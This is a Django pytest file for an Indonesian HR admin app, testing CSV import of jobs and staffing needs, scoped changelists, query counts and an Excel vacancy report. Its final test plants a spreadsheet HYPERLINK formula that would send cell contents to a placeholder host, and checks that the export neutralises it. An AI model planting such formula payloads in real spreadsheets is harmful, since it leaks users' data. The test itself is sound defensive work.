"""HR admin of the jabatan app: scoped changelists with flat query counts, catalogue and
formasi import/export, the vacancy report export, placement through the service."""

from __future__ import annotations

import re
from datetime import date
from io import BytesIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from tablib import Dataset

from jabatan.models import Formasi, Jabatan, Penempatan
from tests.factories import PegawaiFactory

from .conftest import tempatkan
from .factories import FormasiFactory, JabatanFactory


def unggah(client, model: str, nama: str, isi: str):
    url = reverse(f"admin:jabatan_{model}_import")
    page = client.get(url).content.decode()
    pilihan = re.findall(r'<option value="(\d+)"[^>]*>([^<]+)</option>', page)
    indeks = next(v for v, label in pilihan if label.strip().lower() == "csv")
    berkas = SimpleUploadedFile(nama, isi.encode(), content_type="text/csv")
    return client.post(url, {"import_file": berkas, "format": indeks})


def konfirmasi(client, model: str, preview):
    form = preview.context["confirm_form"]
    data = {name: form.initial.get(name, "") for name in form.fields}
    return client.post(reverse(f"admin:jabatan_{model}_process_import"), data)


def test_impor_katalog_dengan_standar(client, kantor):
    client.force_login(kantor.admin)
    isi = (
        "Kode,Nama Jabatan,Jenis,Kelompok,Kategori Fungsional,Jenjang,Kelas Jabatan,Eselon,"
        "Pendidikan Minimal,Jurusan,Golongan Minimal,Jenis Unit,Standar Kompetensi\n"
        "JF-NUTR-AP,Nutrisionis Ahli Pertama,FUNGSIONAL,,KEAHLIAN,AHLI_PERTAMA,8,,S1,Gizi,III/a,,"
        "M-INT:2; T-YANKES:2\n"
    )
    preview = unggah(client, "jabatan", "katalog.csv", isi)
    assert preview.context["result"].totals["new"] == 1, preview.content.decode()[:2000]
    assert konfirmasi(client, "jabatan", preview).status_code == 302
    j = Jabatan.objects.get(kode="JF-NUTR-AP")
    assert j.golongan_minimal == "III/a"
    assert {(s.kompetensi.kode, s.level) for s in j.standar_kompetensi.all()} == {
        ("M-INT", 2),
        ("T-YANKES", 2),
    }


def test_impor_katalog_baris_salah_dijelaskan(client, kantor):
    client.force_login(kantor.admin)
    isi = (
        "Kode,Nama Jabatan,Jenis,Kelas Jabatan,Standar Kompetensi\n"
        "X1,Jabatan Salah,PELAKSANA,20,M-XYZ:2\n"
    )
    html = unggah(client, "jabatan", "salah.csv", isi).content.decode()
    assert "Kompetensi &#x27;M-XYZ&#x27; tidak ada di kamus kompetensi." in html
    assert not Jabatan.objects.filter(kode="X1").exists()


def test_impor_dan_ekspor_formasi(client, kantor):
    client.force_login(kantor.admin)
    isi = "Kode Unit Kerja,Kode Jabatan,Kebutuhan\nDISDIK,EPID,4\nDISKES-P2P,EPID,5\n"
    preview = unggah(client, "formasi", "formasi.csv", isi)
    totals = preview.context["result"].totals
    assert (totals["new"], totals["update"]) == (1, 1)
    konfirmasi(client, "formasi", preview)
    assert Formasi.objects.get(unit_kerja=kantor.p2p, jabatan=kantor.epid).kebutuhan == 5

    html = unggah(
        client, "formasi", "salah.csv", "Kode Unit Kerja,Kode Jabatan,Kebutuhan\nNGAWUR,EPID,1\n"
    ).content.decode()
    assert "Kode unit kerja &#x27;NGAWUR&#x27; tidak dikenal." in html


def test_operator_tidak_boleh_impor_formasi(client, kantor):
    client.force_login(kantor.op_diskes)
    assert client.get(reverse("admin:jabatan_formasi_import")).status_code == 403


def test_laporan_lowongan_excel_sesuai_lingkup(client, kantor):
    client.force_login(kantor.op_diskes)
    resp = client.get(reverse("admin:jabatan_formasi_laporan"))
    assert resp.status_code == 200
    assert resp["Content-Type"].startswith("application/vnd.openxmlformats")
    data = Dataset().load(BytesIO(resp.content).read(), format="xlsx")
    assert data.headers[:4] == ["Kode Unit Kerja", "Unit Kerja", "Kode Jabatan", "Jabatan"]
    assert [(r[0], r[3], r[8]) for r in data] == [
        ("DISKES-P2P", "Epidemiolog Kesehatan Ahli Pertama", "Lowong")
    ]


def test_changelist_formasi_terisi_dan_lingkup(client, kantor):
    client.force_login(kantor.op_disdik)
    html = client.get(reverse("admin:jabatan_formasi_changelist")).content.decode()
    assert "Guru Ahli Pertama" in html and "Epidemiolog" not in html
    assert "Unduh laporan lowongan (Excel)" in html


def test_penempatan_lewat_admin_memakai_aturan_yang_sama(client, kantor):
    client.force_login(kantor.admin)
    url = reverse("admin:jabatan_penempatan_add")
    data = {
        "pegawai": kantor.andi.pk,
        "jabatan": kantor.epid.pk,
        "unit_kerja": kantor.p2p.pk,
        "jenis": "MUTASI",
        "nomor_sk": "1/2024",
        "tmt": "2024-03-01",
    }
    resp = client.post(url, data)
    assert resp.status_code == 200
    assert "Golongan II/c di bawah syarat minimal III/a" in resp.content.decode()
    data["pegawai"] = kantor.siti.pk
    resp = client.post(url, data)
    assert resp.status_code == 302, resp.content.decode()[-3000:]
    assert Penempatan.objects.get(pegawai=kantor.siti, aktif=True).jabatan == kantor.epid


def _jumlah(client, name: str) -> int:
    with CaptureQueriesContext(connection) as ctx:
        assert client.get(reverse(name)).status_code == 200
    return len(ctx)


@pytest.mark.parametrize(
    "name",
    [
        "admin:jabatan_jabatan_changelist",
        "admin:jabatan_formasi_changelist",
        "admin:jabatan_penempatan_changelist",
        "admin:jabatan_asesmenkompetensi_changelist",
    ],
)
def test_changelist_query_tetap_1_dan_50(client, kantor, name):
    # session, user, groups (Admin BKD), operator and pegawai (scope), counts, the page with
    # its joins (formasi: terisi as a subquery), the filter choices: none per row.
    client.force_login(kantor.admin)
    satu = _jumlah(client, name)
    for i in range(49):
        j = JabatanFactory()
        FormasiFactory(unit_kerja=kantor.p2p, jabatan=j, kebutuhan=1)
        p = PegawaiFactory(unit_kerja=kantor.p2p, tanggal_lahir=date(1980, 1, 1 + i % 28))
        tempatkan(p, j, kantor.p2p)
    assert _jumlah(client, name) == satu


def test_laporan_lowongan_menetralkan_rumus(client, kantor):
    """A unit name that is a formula reaches the vacancy xlsx as text (issue 16, item 5)."""
    from openpyxl import load_workbook

    from pegawai.models import UnitKerja

    rumus = '=HYPERLINK("http://contoh.invalid/?"&A1,"klik")'
    UnitKerja.objects.filter(kode="DISKES-P2P").update(nama=rumus)
    client.force_login(kantor.op_diskes)
    resp = client.get(reverse("admin:jabatan_formasi_laporan"))
    lembar = load_workbook(BytesIO(resp.content)).active
    sel = [c for r in lembar.iter_rows() for c in r if c.value and "HYPERLINK" in str(c.value)]
    assert [(c.data_type, c.value) for c in sel] == [("s", "'" + rumus)]
